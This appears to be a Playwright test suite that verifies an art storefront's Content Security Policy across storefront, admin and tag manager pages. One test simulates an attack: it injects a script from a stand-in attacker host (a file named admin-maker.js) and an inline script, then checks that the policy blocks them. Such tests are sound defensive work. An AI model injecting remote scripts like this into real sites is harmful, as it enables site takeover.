import { expect, test, type APIRequestContext, type Page } from '@playwright/test'
import { adminHeaders, signInToAdmin } from './fixtures/editor'
import { oneDetailPageOfEachKind } from './fixtures/listing'

type Violation = { directive: string; blocked: string; sample: string; source: string }
type Watched = Window & { __cspViolations?: Violation[] }

/** Records every CSP violation a page reports, from the first script on, and every console line about one. */
async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const target = window as Watched
    target.__cspViolations = []
    document.addEventListener('securitypolicyviolation', (event) => {
      target.__cspViolations?.push({
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
        sample: event.sample,
        source: `${event.sourceFile}:${event.lineNumber}:${event.columnNumber}`,
      })
    })
  })
  const consoleLines: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) consoleLines.push(message.text())
  })
  return async () => {
    const violations = await page.evaluate(() => (window as Watched).__cspViolations ?? [])
    const found = [...violations.map((v) => `${v.directive}: ${v.blocked} ${v.sample} at ${v.source}`), ...consoleLines]
    consoleLines.length = 0
    return found
  }
}

async function expectNoViolations(page: Page, violations: () => Promise<string[]>, path: string) {
  await page.goto(path)
  await page.waitForLoadState('networkidle')
  // Hydration is what the inline payload scripts feed: a hydrated page proves they ran.
  await expect(page.locator('html')).toHaveAttribute('lang', /.+/)
  expect(await violations(), path).toEqual([])
}

async function storefrontPages(request: APIRequestContext): Promise<string[]> {
  return ['/', '/artworks', ...(await oneDetailPageOfEachKind(request)), '/about', '/no-such-page']
}

test('every kind of storefront page runs under its policy without a violation', async ({ page, request }) => {
  test.setTimeout(120_000)
  const violations = await watchPolicy(page)
  for (const path of await storefrontPages(request)) await expectNoViolations(page, violations, path)
})

test('the artwork grid still searches and filters under the policy', async ({ page }) => {
  const violations = await watchPolicy(page)
  await page.goto('/artworks')
  // The first click hydrates the grid (client:intent, an inline script) and is replayed once it has.
  await page.getByRole('button', { name: 'Show More', exact: true }).click()
  await expect(page.locator('[data-artwork-grid] [data-card="artwork"]')).toHaveCount(24)
  expect(await violations()).toEqual([])
})

test('the admin signs in and shows its dashboard without a violation', async ({ page }) => {
  test.setTimeout(90_000)
  const violations = await watchPolicy(page)
  await expectNoViolations(page, violations, '/admin/login')
  await signInToAdmin(page)
  await page.waitForLoadState('networkidle')
  await expect(page.getByRole('link', { name: /Artworks/ }).first()).toBeVisible()
  expect(await violations(), '/admin').toEqual([])
  await expectNoViolations(page, violations, '/admin/collections/artworks')
  await expect(page.getByRole('heading', { name: 'Artworks' })).toBeVisible({ timeout: 30_000 })
  expect(await violations(), '/admin/collections/artworks').toEqual([])
})

test('the policy blocks a script from an unlisted host and an injected inline script', async ({ page }) => {
  const violations = await watchPolicy(page)
  await page.route('https://attacker.example/**', (route) =>
    route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.pwned = true' }),
  )
  await page.goto('/')
  await page.evaluate(() => {
    const external = document.createElement('script')
    external.src = 'https://attacker.example/admin-maker.js'
    document.body.append(external)
    const inline = document.createElement('script')
    inline.textContent = 'window.pwned = true'
    document.body.append(inline)
  })
  await expect.poll(async () => (await violations()).length).toBeGreaterThan(0)
  expect(await page.evaluate(() => (window as Window & { pwned?: boolean }).pwned)).toBeUndefined()
})

test.describe('with the tag manager switched on', () => {
  const setTagManager = async (request: APIRequestContext, id: string) => {
    const response = await request.post('/api/globals/settings', {
      headers: await adminHeaders(request),
      data: { featureFlags: { tracking: Boolean(id) }, tracking: { tagManagerContainerId: id } },
    })
    expect(response.ok(), await response.text()).toBe(true)
  }

  test.afterAll(async ({ request }) => setTagManager(request, ''))

  test('its script loads and the pages stay free of violations', async ({ page, request }) => {
    await setTagManager(request, 'GTM-CSP123')
    // The outside world is unreachable here; the stub announces itself the way the real tag manager does.
    await page.route(/^https:\/\/www\.googletagmanager\.com\//, (route) =>
      route.fulfill({
        status: 200,
        contentType: 'text/javascript',
        body: "window.google_tag_manager = { 'GTM-CSP123': {} }",
      }),
    )
    const violations = await watchPolicy(page)
    for (const path of ['/', '/artworks']) {
      await expectNoViolations(page, violations, path)
      await expect.poll(() => page.evaluate(() => 'google_tag_manager' in window), { message: path }).toBe(true)
    }
  })
})
